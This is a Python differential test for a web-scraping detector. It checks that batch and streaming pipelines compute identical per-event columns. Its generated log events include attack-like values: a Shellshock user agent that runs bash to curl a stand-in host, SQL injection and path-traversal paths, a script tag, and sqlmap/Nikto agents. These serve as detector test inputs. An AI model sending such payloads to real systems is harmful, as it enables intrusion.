"""One definition of each per-event column, checked: the batch enrichment (`engines/enrich.py`,
`engines/lookups.py`, the definition) and the stream engine's rows (`engines/live_rows.py`, as
`StreamEngine.record_many` derives and counts them) must give every event the same columns.

Hypothesis generates batches of events from small pools, so that paths, referers, agents and
addresses repeat and the columns learnt as the log goes (linked, served, robots readers, the
site's own hosts, assets expected, session histories) are exercised, with awkward values among
them: empty and missing fields, unicode, very long paths, ids with leading zeros or too many
digits, odd methods and statuses. The batch side runs `enrich` over a DuckDB table of those
events; the live side runs a `StreamEngine` on `memory://` over the same events, calibrated with
what the batch learnt (as `serve` is), and reads each event's rows as it counted them
(`record_many(seen=...)`) and, from the store's answer, the stateful detectors: its
sequential step, and whether it made its client an `enum:` or `thin:` campaign member
(`campaigns.campaign_rows` on the batch side).

Strings are compared as the batch keeps them: the live value hashed by the same DuckDB `hash`
(`lookups.key`). Every column of the batch row is compared; `ONLY_BATCH` names the ones the
live side has no per-event value for, and why.
"""

from __future__ import annotations

import dataclasses
import json
import os
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import duckdb
import ibis
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from conformance_support import simulated_day_in
from scrapeguard import clientshape
from scrapeguard.analysis import connect
from scrapeguard.engines.calibration import Calibration
from scrapeguard.engines.campaigns import campaign_rows
from scrapeguard.engines.enrich import enrich
from scrapeguard.engines.live_rows import EventRows
from scrapeguard.engines.stream import _DISTINCT_SOURCE, StreamEngine, _column, _distinct_value
from scrapeguard.events import EVENT_SQL_TYPES
from scrapeguard.policy.load import load_policy
from scrapeguard.policy.model import Policy
from scrapeguard.stores.base import EventResult, EventUpdate
from scrapeguard.stores.memory import MemoryStore

POLICY = """\
extends: default
traps: ["/trap/*"]
routes:
  - {name: profile, path: "/user/{id}", subject: id, fields: [name], miss_max_bytes: 100}
  - {name: api-user, path: "/api/users/{id}", subject: id, fields: [name]}
  - {name: phone-lookup, path: /api/lookup, query: phone, fields: [phone]}
  - {name: reviews, path: "/product/{pid}/reviews", records_per_hit: 20, fields: [name]}
  - {name: listing, path: "/listing/{lid}", subject: lid, kind: item}
"""
"""Every kind of declared route: a subject in the path (one with a size that means a miss),
a query key, a list page of N records, a catalogue item route; and a trap."""

START = datetime(2026, 3, 2, 7, 59, 50, tzinfo=UTC)
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"
CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/124.0.0.0 Safari/537.36")

ONLY_BATCH = {
    "eid": "the batch's event number, a join key; the stream handles one event at a time",
    "ts": "compared as `ts_ms`, the form both count windows by",
}
"""Batch columns without a live twin. Every other one is compared, the detectors included:
`is_seq_step` with the store's answer, and three more derived from `campaigns.campaign_rows`
(`enum_member`, `thin_member`, `ref_campaign`)."""
LIVE_ONLY = {
    "campaign_prior": "the assets a client loaded before its first page joined a referral "
                      "campaign, added at that page; the batch moves those asset rows to it "
                      "(`campaigns._referred`), so they are no column of any one event",
}
"""Fields of the live `EventRows` without a batch twin."""

IDS = st.sampled_from(["7", "8", "9", "007", "0", "10", "11", "123456789012345678",
                       "1234567890123456789012", "abc", "12a", "٣", ""])
HOSTS = st.sampled_from(["https://shop.example", "http://blog.example", "https://evil.example",
                         "android-app://com.x", "HTTPS://Shop.Example:443"])
PAGE_PATHS = st.sampled_from(["/", "/about", "/2013/05/post-01/", "/wp-admin/", "/administrator/",
                              "/user/7", "/product/1/reviews", "/listing/3", "/feed/",
                              "/wp-login.php", "/?p=7", "/search?q=a"])


@st.composite
def paths(draw: st.DrawFn) -> str:
    shape = draw(st.integers(0, 14))
    n = draw(IDS)
    query = draw(st.sampled_from(["", "?x=1", "?utm_source=a&b=", "?phone=", "?" + "q" * 3]))
    if shape == 0:
        return f"/user/{n}{draw(st.sampled_from(['', '/', '//', '/edit']))}{query}"
    if shape == 1:
        return f"/api/users/{n}{query}"
    if shape == 2:
        return f"/api/lookup?phone={draw(st.sampled_from(['+15550001', '0044', '', n]))}"
    if shape == 3:
        return f"/product/{n}/reviews{query}"
    if shape == 4:
        return f"/listing/{n}{query}"
    if shape == 5:
        return draw(st.sampled_from([
            "/static/app.js", "/img/a.PNG", "/favicon.ico", "/css/site.css?v=3",
            "/wp-content/uploads/x.jpg", "/robots.txt", "/robots.txt?x", "/sitemap.xml"]))
    if shape == 6:
        return draw(st.sampled_from([
            "/wp-login.php", "/xmlrpc.php", "/login", "/wp-comments-post.php", "/register",
            "/comment", "/.env", "/phpmyadmin/index.php", "/admin.php", "/shell.aspx",
            "/backup.zip", "/wp-admin/install.php", "/cgi-bin/test.cgi", "/admin/reports",
            "/admin/login", "/Moderation/queue?page=2", "/admin/app.css", "/staffroom",
            "/inbox", "/users/alice/inbox", "/messages/inbox"]))
    if shape == 7:
        return f"/?author={n}" if n else "/?author="
    if shape == 8:
        return draw(st.sampled_from(["/trap/a", "/trap/", "/trapdoor"]))
    if shape == 9:
        return draw(st.sampled_from([
            "/p/0f8fad5b-d9cb-469f-a165-70867728950e", "/p/deadbeefcafe/x", "/a/1/2/3",
            "/search?q=%27%20OR%201%3D1--", "/index.php?id=1%20UNION%20SELECT",
            "/../../etc/passwd", "/x?q=<script>"]))
    if shape == 10:
        return draw(st.sampled_from(["", "/", "//", "/é", "/ü/%C3%BC", "/😀?x=😀", "/a b",
                                     "/%2e%2e/", "/user/%37", "/USER/7", "/user/7/"]))
    if shape == 11:
        return "/" + "a" * draw(st.integers(200, 3000)) + query
    if shape == 12:
        return draw(PAGE_PATHS)
    if shape == 13:
        return "/" + draw(st.text(st.characters(codec="utf-8", exclude_characters="\x00"),
                                  max_size=12)) + query
    return f"/{draw(st.sampled_from(['blog', 'news', 'member']))}/{n}"


@st.composite
def referers(draw: st.DrawFn) -> str | None:
    kind = draw(st.integers(0, 5))
    if kind == 0:
        return None
    if kind == 1:
        return draw(st.sampled_from(["-", "", "not a url", "/relative", "https://", "😀"]))
    return draw(HOSTS) + draw(st.one_of(PAGE_PATHS, paths()))


AGENTS = st.sampled_from([
    FIREFOX, CHROME, None, "", "-", "curl/8.4.0", "python-requests/2.31.0", "Wget/1.21",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "HeadlessChrome/120.0.0.0 Safari/537.36",
    "sqlmap/1.7", "Mozilla/5.00 (Nikto/2.1.6)", "Feedly/1.0 (+http://www.feedly.com/fetcher.html)",
    "Mastodon/4.2.8 (http.rb/5.1.1; +https://peer.example/)",
    "() { :; }; /bin/bash -c 'curl http://x.example/a'", "Mozilla/5.0 😀", "A" * 600])
ADDRESSES = st.sampled_from(["203.0.113.7", "203.0.113.8", "198.51.100.9", "2001:db8::1",
                             "2001:DB8:0::1", "::ffff:203.0.113.7", "10.0.0.1",
                             "66.249.66.1"])
HDR = clientshape.shape(CHROME, [("accept", "text/html"), ("sec-ch-ua", '"Chromium";v="124"'),
                                 ("accept-language", "en")], True)


@st.composite
def events(draw: st.DrawFn) -> dict[str, Any]:
    method = draw(st.sampled_from(["GET", "GET", "GET", "POST", "HEAD", "OPTIONS", "get",
                                   "PUT", None, ""]))
    subjects = draw(st.one_of(st.none(), st.none(), st.none(),
                              st.lists(st.sampled_from(["1", "2", "07", "é", ""]), max_size=3)))
    return {
        "ip": draw(ADDRESSES),
        "method": method,
        "path": draw(paths()),
        "status": draw(st.sampled_from([200, 200, 204, 301, 302, 304, 400, 403, 404, 405,
                                        406, 410, 429, 500, 0, None])),
        "bytes": draw(st.sampled_from([0, 50, 100, 101, 24_000, None])),
        "ua": draw(AGENTS),
        "referer": draw(referers()),
        "account": draw(st.sampled_from([None, None, None, "", "alice", "bob", "é😀"])),
        "session": draw(st.sampled_from([None, None, "", "s1", "s2", "x" * 300])),
        "subjects": subjects,
        "fields": None if subjects is None else ["name"],
        "hdr": draw(st.sampled_from([None, None, None, "", HDR])),
        "tls": draw(st.sampled_from([None, None, None, "",
                                     "t13d1516h2_8daaf6152771_02713d6af862", "x" * 40])),
    }


ASSET_LOADS = [{"ts": START, "ip": f"198.18.0.{n}", "method": "GET", "path": "/css/site.css",
                "status": 200, "bytes": 900, "ua": FIREFOX,
                "referer": "https://shop.example/about", "account": None, "session": None,
                "subjects": None, "fields": None, "hdr": None, "tls": None} for n in range(20)]
"""Twenty addresses loading a page's assets: from then on the site is one whose browsers load
them (`sitefacts.ASSET_ADDRESSES`), and shop.example is its own host (`referrals.py`)."""


@st.composite
def batches(draw: st.DrawFn) -> list[dict[str, Any]]:
    """Events in time order, with gaps from none (the same millisecond) to an hour."""
    found = draw(st.lists(events(), min_size=5, max_size=60))
    if draw(st.booleans()):  # a site whose browsers load its assets: forms, browser pages,
        found = [*ASSET_LOADS, *found]  # login agents and referrals count from then on
    ts = START
    for event in found:
        ts += timedelta(milliseconds=draw(st.sampled_from(
            [0, 1, 700, 1000, 30_000, 61_000, 3_600_000])))
        event["ts"] = ts
    return found


class Recording(MemoryStore):
    """`memory://`, keeping each event's answer: the sequential step the store found."""

    def __init__(self) -> None:
        super().__init__()
        self.results: list[EventResult] = []

    def record(self, update: EventUpdate) -> EventResult:
        result = super().record(update)
        self.results.append(result)
        return result


@pytest.fixture(scope="module")
def policy(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    """`POLICY`, loaded once into `POLICIES` (a fixture argument would be printed whole with
    every failing example)."""
    path = tmp_path_factory.mktemp("policy") / "policy.yaml"
    path.write_text(POLICY)
    POLICIES.append(load_policy(path))
    yield
    POLICIES.clear()


POLICIES: list[Policy] = []


@pytest.fixture(scope="module")
def con() -> Iterator[duckdb.DuckDBPyConnection]:
    c = connect()
    yield c
    c.close()


def batch_rows(con: Any, policy: Policy, found: list[dict[str, Any]]
               ) -> tuple[list[dict[str, Any]], Calibration]:
    """`enrich` over a table of these events: rows by (eid, item_pos), and the calibration a
    live engine gets from the same log (`analysis.judge`)."""
    for table in ("events", "enriched"):
        con.execute(f"DROP TABLE IF EXISTS {table}")
    columns = ", ".join(f"{name} {kind}" for name, kind in EVENT_SQL_TYPES.items())
    con.execute(f"CREATE TABLE events ({columns})")
    marks = ", ".join("?" for _ in EVENT_SQL_TYPES)
    con.executemany(f"INSERT INTO events VALUES ({marks})",
                    [[row.get(name) for name in EVENT_SQL_TYPES] for row in found])
    rows, stats = enrich(con, "events", policy)
    out = rows.order_by(["eid", "item_pos"]).to_pyarrow().to_pylist()
    members = campaign_rows(ibis.duckdb.from_connection(con), rows, policy)
    listed = members.select("eid", "item_pos", "campaign_link", "campaign_name")
    joined = {(r["eid"], r["campaign_link"]) for r in listed.to_pyarrow().to_pylist()}
    referred = {r["eid"]: r["campaign_name"].removeprefix("ref:")
                for r in listed.to_pyarrow().to_pylist()
                if r["campaign_link"] == "ref" and r["item_pos"] == 0}
    for row in out:  # the detectors' answers, per event: on its first row
        first = row["item_pos"] == 0
        for link in ("enum", "thin"):
            row[f"{link}_member"] = int(first and (row["eid"], link) in joined)
        row["ref_campaign"] = referred.get(row["eid"]) if first else None
    calibration = Calibration(subject_templates=list(stats.inferred_templates),
                              asset_templates=stats.routes.subresource_templates)
    if policy.settings.infer_templates:
        calibration.catalogue_templates = stats.routes.item_templates
    return out, calibration


def live_rows(policy: Policy, calibration: Calibration, found: list[dict[str, Any]]
              ) -> tuple[list[EventRows], list[EventResult | None]]:
    """Each event's rows as the stream engine derived and counted them, and the store's
    answer for it (None for an allowlisted event, which is never counted)."""
    store = Recording()
    engine = StreamEngine(policy, store, calibration=calibration, secret=b"differential",
                          learn_routes=False)
    seen: list[EventRows] = []
    answers: list[EventResult | None] = []
    for event in found:
        before = len(store.results)
        engine.record_many([dict(event)], seen=seen.append)
        answers.append(store.results[-1] if len(store.results) > before else None)
    return seen, answers


def hashes(con: Any, values: set[str]) -> dict[str, int]:
    """`lookups.key` of each string, in the SQL Ibis compiles it to on DuckDB."""
    if not values:
        return {}
    listed = sorted(values)
    found = con.execute("SELECT v, CAST(CAST(hash(v) AS BIT) AS BIGINT) "
                        "FROM unnest(?::VARCHAR[]) AS t(v)",
                        [listed]).fetchall()
    return dict(found)


UNHASHED = ("allow_reason", "referral_host", "ref_campaign")
"""Columns the batch keeps as text."""

KEYED = {"ip_key": "ip", "net_key": "net", "asn_key": "asn", "prefix_key": "prefix",
         "account_key": "account", "session_key": "session", "fp_key": "fp",
         "hdr_key": "hdr", "tls_key": "tls"}
"""Actor columns: the live value is `EventRows.keys[kind]`."""


def live_view(rows: EventRows, answer: EventResult | None) -> list[dict[str, Any]]:
    """Each live row with the batch's column names: strings unhashed (see `hashes`)."""
    out = []
    for position, row in enumerate(rows.rows):
        view: dict[str, Any] = {"item_pos": position, "ts_ms": rows.ts_ms,
                                "item_weight": row.item_weight, "numeric_id": row.numeric_id,
                                "allow_reason": rows.allow_reason,
                                "referral_host": rows.referral if position == 0 else None}
        view |= {column: rows.keys.get(kind) for column, kind in KEYED.items()}
        for column in _DISTINCT_SOURCE:
            value = _distinct_value(rows, row, column)
            view[column] = int(value) if column == "hour" else value
        for column in row.flags:
            view[column] = _column(row, column)
        first = answer is not None and position == 0
        view["is_seq_step"] = answer.is_seq_step if first else 0
        view["enum_member"] = int(first and answer.member)
        view["thin_member"] = int(first and answer.thin)
        view["ref_campaign"] = rows.campaign_host if position == 0 else None
        out.append(view)
    return out


def compare(con: Any, batch: list[dict[str, Any]], live: list[dict[str, Any]],
            found: list[dict[str, Any]]) -> list[str]:
    """Every difference, as `event n (path) column: batch != live`."""
    strings = {v for row in live for k, v in row.items()
               if isinstance(v, str) and k not in UNHASHED}
    keyed = hashes(con, strings)
    differences = []
    assert len(batch) == len(live), (len(batch), len(live))
    for b, lv in zip(batch, live, strict=True):
        event = found[b["eid"] - 1]
        assert b["ts"] == event["ts"], "the batch numbered the events out of their order"
        for column, value in b.items():
            if column in ("eid", "ts"):
                continue
            assert column in lv, f"column {column!r} has no live counterpart"
            other = lv[column]
            if isinstance(other, str) and column not in UNHASHED:
                other = keyed[other]
            if value != other:
                differences.append(f"event {b['eid']} row {b['item_pos']} "
                                   f"({event['method']} {event['path']!r} {event['status']}) "
                                   f"{column}: batch {value!r} != live {lv[column]!r}")
    only_live = {c for row in live for c in row} - set(batch[0]) - set(ONLY_BATCH)
    assert not only_live, f"live columns the batch does not have: {only_live}"
    return differences


EXPLORE = int(os.environ.get("SCRAPEGUARD_EXPLORE", "0"))
"""Fresh random batches to draw (`SCRAPEGUARD_EXPLORE=200 pytest tests/test_differential.py`);
by default the test draws the same ten every run, so that CI does not go red on a difference
it happened upon today: a difference found exploring becomes a case in `AWKWARD`."""

DIFFERENTIAL = settings(max_examples=EXPLORE or 10, derandomize=not EXPLORE,
                        deadline=None, database=None,
                        suppress_health_check=[HealthCheck.function_scoped_fixture,
                                               HealthCheck.too_slow, HealthCheck.data_too_large])


def hit(ms: int, path: str, status: int = 200, **fields: Any) -> dict[str, Any]:
    """One event `ms` after `START`, a person's GET unless `fields` say otherwise."""
    return {"ts": START + timedelta(milliseconds=ms), "ip": "203.0.113.7", "method": "GET",
            "path": path, "status": status, "bytes": 900, "ua": FIREFOX, "referer": None,
            "account": None, "session": None, "subjects": None, "fields": None, "hdr": None,
            "tls": None} | fields


BOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
DAY = 86_400_000
AWKWARD = [
    # A profile reached from a profile, its id written with leading zeros.
    hit(0, "/user/007", referer="https://x.example/user/6"),
    # Learnt at a moment, counted only after it: linked, served, robots.txt read, own host.
    hit(1000, "/missing", 404, referer="https://shop.example/about"),
    hit(1000, "/missing", 404, ip="203.0.113.8"),
    hit(1000, "/wp-admin/install.php", 200),
    hit(1000, "/wp-admin/install.php", 404, ip="203.0.113.8"),
    hit(1000, "/robots.txt", ua=BOT, ip="66.249.66.9"),
    hit(1000, "/about", ua=BOT, ip="66.249.66.9"),
    *(hit(2000, "/static/app.js", ip=f"198.51.100.{n}", referer="https://own.example/")
      for n in range(3)),
    hit(2000, "/administrator/", 404, ip="203.0.113.9", referer="https://own.example/x"),
    hit(2000, "/administrator/", 404, ip="203.0.113.10"),
    # A lookup that found nobody; an empty referer on a blind password post.
    hit(3000, "/api/users/5", 404, subjects=[], fields=["name"], referer=""),
    hit(3000, "/wp-login.php", method="POST", referer=""),
    # The staff area answered to an account (staff), to nobody, and its login page; a password
    # taken (a redirect) and one refused (the form again).
    hit(3000, "/admin/reports", account="mod1"), hit(3000, "/admin/reports", 403, account="u2"),
    hit(3000, "/admin/reports"), hit(3000, "/admin/login", account="mod1"),
    hit(3000, "/login", 302, method="POST"), hit(3000, "/login", 200, method="POST"),
    # Sequential ids: a step, a repeat, and a step two days after the last lookup.
    hit(4000, "/user/10"), hit(4000, "/user/11"), hit(4000, "/user/11"),
    hit(2 * DAY, "/user/12"), hit(2 * DAY + 1, "/user/0013"),
    # No status logged: a scanner target, a catalogue item, a password post.
    hit(2 * DAY + 2, "/wp-login.php", None, method="HEAD"),
    hit(2 * DAY + 2, "/listing/4", None),
    hit(2 * DAY + 2, "/wp-login.php", None, method="POST"),
    # A verified crawler's lookup is no step for the next client of its address.
    hit(2 * DAY + 3, "/user/20", ua=BOT, ip="66.249.66.1"),
    hit(2 * DAY + 4, "/user/21", ua="curl/8.4.0", ip="66.249.66.1"),
    # Thin: a third direct lookup, then an asset logged after it in the same millisecond.
    *(hit(2 * DAY + ms, path, ua="curl/8.4.0", ip="192.0.2.44") for ms, path in (
        (5, "/user/101"), (6, "/user/505"), (7, "/user/909"), (7, "/static/app.js"))),
    # Enum: steps enough to make a member, and misses enough for another.
    *(hit(2 * DAY + 10_000 + k, f"/api/users/{300 + k}", ip="192.0.2.45") for k in range(6)),
    *(hit(2 * DAY + 20_000 + k, f"/user/{900 + 7 * k}", 404, ip="192.0.2.46")
      for k in range(14)),
    # A site whose browsers load its assets: referrals from a foreign host (its client's
    # first page of the day), forms reached without assets, login forms under many agents.
    *({**load, "ts": START + timedelta(milliseconds=2 * DAY + 30_000)} for load in ASSET_LOADS),
    hit(2 * DAY + 30_000, "/about", ip="192.0.2.47", referer="https://spam.example/"),
    hit(2 * DAY + 30_001, "/about", ip="192.0.2.48", referer="https://spam.example/"),
    hit(2 * DAY + 30_002, "/static/app.js", ip="192.0.2.48", referer="https://spam.example/"),
    hit(2 * DAY + 30_003, "/news/1", ip="192.0.2.48"),
    hit(2 * DAY + 30_003, "/register", ip="192.0.2.49"),
    hit(2 * DAY + 30_004, "/wp-comments-post.php", ip="192.0.2.49", method="POST"),
    *(hit(2 * DAY + 30_005, "/wp-login.php", ip="192.0.2.50", ua=f"Agent/{k}")
      for k in range(3)),
    # A method the source logged empty is one it did not log: a GET.
    hit(2 * DAY + 30_006, "/listing/0?phone=", 302, method=""),
    # An arrival from a foreign host whose answer lists two people: the agent on both rows.
    hit(2 * DAY + 30_007, "/api/users/3", 429, subjects=["a", "b"], fields=["name"],
        ip="192.0.2.51", referer="https://spam.example/"),
]
"""Cases the generator reaches rarely, each a difference the test found once."""


@DIFFERENTIAL
@given(found=batches())
@example(found=AWKWARD)
@pytest.mark.usefixtures("policy")
def test_batch_and_live_rows_agree(con: Any, found: list[dict[str, Any]]) -> None:
    policy = POLICIES[0]
    batch, calibration = batch_rows(con, policy, found)
    derived, answers = live_rows(policy, calibration, found)
    live = [row for rows, answer in zip(derived, answers, strict=True)
            for row in live_view(rows, answer)]
    differences = compare(con, batch, live, found)
    assert not differences, "\n".join(differences[:20])


@pytest.mark.usefixtures("policy")
def test_every_batch_column_is_compared(con: Any) -> None:
    """A column added to the batch row must get a live twin, or a reason in `ONLY_BATCH`."""
    policy = POLICIES[0]
    found = [{"ts": START, "ip": "203.0.113.7", "method": "GET", "path": "/", "status": 200,
              "bytes": 10, "ua": FIREFOX, "referer": None, "account": None, "session": None,
              "subjects": None, "fields": None, "hdr": None, "tls": None}]
    batch, calibration = batch_rows(con, policy, found)
    derived, answers = live_rows(policy, calibration, found)
    live = live_view(derived[0], answers[0])[0]
    missing = set(batch[0]) - set(live) - set(ONLY_BATCH)
    assert not missing
    assert set(ONLY_BATCH) <= set(batch[0]), "ONLY_BATCH names a column the batch dropped"
    compared = {*_DISTINCT_SOURCE.values(), "ts", "ts_ms", "keys", "rows", "allow_reason",
                "referral", "campaign_host"}
    assert {f.name for f in dataclasses.fields(EventRows)} - compared == set(LIVE_ONLY)


@pytest.mark.slow  # half a minute; the default run keeps the day's decisions in conformance
def test_a_simulated_day_agrees_row_by_row(con: Any, tmp_path: Path) -> None:
    """The conformance test's simulated day (people, search engines, three harvesters) on the
    default pack, every column of every event: where the generator's small pools never
    reach a site whose browsers load assets, its own hosts learnt and list pages of one
    record, this day does (it found the batch reading a raw referer as a referer path)."""
    day = simulated_day_in(tmp_path)
    found = []
    for line in (day / "events.jsonl").read_text().splitlines():
        event = json.loads(line)
        event["ts"] = datetime.fromisoformat(event["ts"].replace("Z", "+00:00"))
        found.append({name: event.get(name) for name in EVENT_SQL_TYPES})
    policy = load_policy(None)
    batch, calibration = batch_rows(con, policy, found)
    derived, answers = live_rows(policy, calibration, found)
    live = [row for rows, answer in zip(derived, answers, strict=True)
            for row in live_view(rows, answer)]
    assert any(row["is_direct_lookup"] for row in batch), "the day has direct lookups"
    # Asks that found nobody (`subjects: []`) are asks too: the contact importer's misses.
    assert any(row["asked_key"] is not None and row["lookup_key"] is None for row in batch)
    differences = compare(con, batch, live, found)
    assert not differences, "\n".join(differences[:20])
